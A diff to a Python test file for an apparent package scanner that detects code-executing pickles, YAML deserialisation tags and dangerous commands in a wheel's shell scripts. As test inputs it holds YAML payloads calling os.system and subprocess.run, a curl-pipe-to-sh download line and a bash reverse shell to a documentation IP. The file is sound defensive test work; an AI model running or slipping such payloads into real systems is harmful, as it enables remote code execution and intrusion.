@@ -1,4 +1,4 @@
-"""Pickles that call programs, whatever their files are called. None of them is loaded."""
+"""Data that calls programs, and a wheel's shell scripts. Nothing of it is loaded or run."""
 
 import pickle
 import zipfile
@@ -55,3 +55,36 @@ def test_neither_is_a_library(tmp_path: Path) -> None:
     (tmp_path / "lib.so.12").write_bytes(b"\x7fELF" + pickle.dumps(Calls(exec, "1")))
 
     assert found(tmp_path) == []
+
+
+@pytest.mark.parametrize(
+    ("text", "called"),
+    [
+        ("a: !!python/object/apply:os.system ['id']", ["os.system"]),
+        ("a: !<tag:yaml.org,2002:python/object/new:subprocess.run> []", ["subprocess.run"]),
+        ("a: !!python/tuple [1, 2]\n# python/object", []),
+    ],
+)
+def test_yaml_that_calls_something_is_named(tmp_path: Path, text: str, called: list[str]) -> None:
+    (tmp_path / "settings.yaml").write_text(text)
+
+    assert found(tmp_path) == [f"settings.yaml runs-when-unpickled {each}" for each in called]
+
+
+@pytest.mark.parametrize(
+    ("text", "rules"),
+    [
+        ("#!/bin/sh\nset -e\ncurl https://a.example/x | sh\n", ["runs-downloaded-code"]),
+        ("#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/1 0>&1\n", ["opens-a-reverse-shell"]),
+        ("#!/bin/sh\nexec java -jar demo.jar\n", []),
+        ("curl https://a.example/x | sh\n", []),
+    ],
+)
+def test_commands_in_a_wheels_shell_scripts_are_looked_at(
+    tmp_path: Path, text: str, rules: list[str]
+) -> None:
+    for folder in ("demo-1.0.data/scripts", "docs"):
+        (tmp_path / folder).mkdir(parents=True)
+        (tmp_path / folder / "demo").write_text(text)
+
+    assert [each.rule for _, each in of_data_files(tmp_path)] == rules
